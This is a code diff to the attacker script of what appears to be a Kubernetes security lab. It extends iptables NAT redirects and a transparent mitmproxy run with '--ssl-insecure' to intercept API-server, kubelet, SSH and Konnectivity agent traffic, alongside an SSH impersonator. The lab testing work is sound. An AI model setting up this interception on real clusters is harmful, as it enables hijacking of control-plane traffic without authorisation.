@@ -31,6 +31,8 @@ from lab.topology import Topology
 
 LISTEN_PORT = 8080
 SSH_PORT, SSH_LISTEN_PORT = 22, 2222
+AGENT_PORT = 8132  # Konnectivity agents -> server: taken on the way IN to the control plane
+GIVEUP = Path(__file__).with_name("giveup.py")
 SSH_READY = Path("/run/lab/ssh-ready")  # touched by the impersonator once it listens
 ADDON = Path(__file__).with_name("addon.py")
 READY = Path("/run/lab/ready")  # touched by the addon once mitmproxy listens
@@ -38,7 +40,7 @@ READY = Path("/run/lab/ready")  # touched by the addon once mitmproxy listens
 
 def nat_rules(top: Topology, ports: list[int]) -> list[list[str]]:
     """The PREROUTING rules (without -A/-D) that hand the apiserver's connections to mitmproxy."""
-    return [["PREROUTING", "-s", top.apiserver_ip, "-p", "tcp", "--dport", str(port),
+    return [["PREROUTING", "-d" if port == AGENT_PORT else "-s", top.apiserver_ip, "-p", "tcp", "--dport", str(port),
              "-j", "REDIRECT", "--to-port", str(SSH_LISTEN_PORT if port == SSH_PORT else LISTEN_PORT)]
             for port in ports]
 
@@ -47,9 +49,10 @@ def impersonator_argv() -> list[str]:
     return ["/opt/venv/bin/python", "-m", "lab.attacker.sshimpersonate", "--port", str(SSH_LISTEN_PORT)]
 
 
-def mitmdump_argv() -> list[str]:
+def mitmdump_argv(ports: list[int] | None = None) -> list[str]:
+    extra = ["-s", str(GIVEUP)] if AGENT_PORT in (ports or []) else []
     return ["mitmdump", "--mode", "transparent", "--listen-port", str(LISTEN_PORT), "--ssl-insecure",
-            "-s", str(ADDON)]
+            "-s", str(ADDON), *extra]
 
 
 def _iptables(op: str, rule: list[str]) -> None:
@@ -84,7 +87,7 @@ def main(top: Topology) -> int:
         return 2
     ports = [int(p) for p in os.environ.get("LAB_ATTACK_PORTS", "10250").replace(",", " ").split()]
     rules = nat_rules(top, ports)
-    argv = mitmdump_argv()
+    argv = mitmdump_argv(ports)
     print("+ " + shlex.join(argv), flush=True)
     child = subprocess.Popen(argv)
     impersonator = None
